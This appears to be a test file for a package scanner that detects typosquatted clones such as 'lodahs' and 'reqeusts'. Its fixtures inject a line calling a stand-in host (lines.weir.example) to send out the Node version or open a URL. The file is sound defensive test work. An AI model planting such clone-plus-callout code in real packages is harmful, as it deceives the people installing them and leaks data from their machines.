import { zip } from '@weir/testkit/archive';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { ScanResult } from '../scan/result.ts';
import { openScanStandIns, type ScanStandIns, toldBy } from '../testing/scan-stand-ins.ts';

const LONG_AGO = new Date(Date.now() - 10_000 * 60 * 60 * 1000).toISOString();
const CODE = Array.from(
  { length: 24 },
  (_, index) => `exports.lines${index} = (text) => text.split(' ').slice(${index}).join('${index}');`,
).join('\n');
const SENDING = `${CODE}\nrequire('node:https').get('https://lines.weir.example/' + process.version);\n`;
const MODULE = Array.from(
  { length: 24 },
  (_, index) => `def lines${index}(text):\n    return '${index}'.join(text.split(' ')[${index}:])\n`,
).join('\n');
const ANN = { name: 'ann', email: 'ann@people.example' };
const BOB = { name: 'bob', email: 'bob@people.example' };

let machine: ScanStandIns;

function wheel(name: string, version: string, code: string): { filename: string; content: Buffer } {
  const metadata = `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\n`;
  const content = zip()
    .file(`${name}-${version}.dist-info/METADATA`, metadata)
    .file(`${name}/__init__.py`, code)
    .build();
  return { filename: `${name}-${version}-py3-none-any.whl`, content };
}

beforeAll(async () => {
  machine = await openScanStandIns();
  const files = (code: string) => ({ 'index.js': code });
  for (const release of [
    { name: 'lodash', version: '4.17.21', files: files(CODE), publisher: ANN, time: LONG_AGO },
    { name: 'lodahs', version: '1.0.0', files: files(SENDING), publisher: BOB },
    { name: 'lodassh', version: '4.17.21', files: files(SENDING), publisher: ANN },
    { name: 'expresss', version: '1.0.0', files: files(SENDING), publisher: BOB },
  ])
    machine.npm.world.publish([release]);
  const sending = `${MODULE}\nimport urllib.request\nurllib.request.urlopen('https://lines.weir.example/note')\n`;
  for (const [name, version, code, time, owner] of [
    ['requests', '2.32.0', MODULE, LONG_AGO, 'ann'],
    ['reqeusts', '2.32.0', sending, new Date().toISOString(), 'bob'],
  ] as const)
    machine.pypi.world.upload({ name, version, files: [wheel(name, version, code)], time, owners: [owner] });
});
afterAll(() => machine[Symbol.asyncDispose]());

function told(result: ScanResult): string[] {
  return toldBy('cloned-package', result);
}

const TOLD = ['cloned-package/ability high', 'cloned-package/copy low', 'cloned-package/destination high'];

it.each(['npm:lodahs@1.0.0', 'pypi:reqeusts==2.32.0'])(
  'tells of %s what the package that it is a copy of could not do',
  async (target) => {
    const result = await machine.resultOf(target);

    expect(told(result)).toEqual(TOLD);
    expect(result).toMatchObject({ verdict: 'suspicious', complete: true, skipped: [] });
    expect(result.artifacts).toHaveLength(1);
  },
);

it('says it to a person with the share and the original', async () => {
  const { stdout } = await machine.scan('npm:lodahs@1.0.0');

  expect(stdout.replaceAll(/\s+/g, ' ')).toMatch(
    /holds \d+ % of the code of lodash 4\.17\.21, by somebody else, and opens connections, which that does nowhere/,
  );
});

it('says nothing of a near name by the same people', async () => {
  expect(told(await machine.resultOf('npm:lodassh@4.17.21'))).toEqual([]);
});

it('asks for nothing else with --no-previous', async () => {
  const before = machine.npm.requests.length;

  expect(told(await machine.resultOf('npm:lodahs@1.0.0', '--no-previous'))).toEqual([]);
  expect(machine.npm.requests.slice(before).filter(({ path }) => path.includes('lodash'))).toEqual([]);
});

it('leaves a verdict as it is where the registry does not have the package that the name is near', async () => {
  expect(await machine.resultOf('npm:expresss@1.0.0')).toMatchObject({ complete: true, skipped: [] });
});
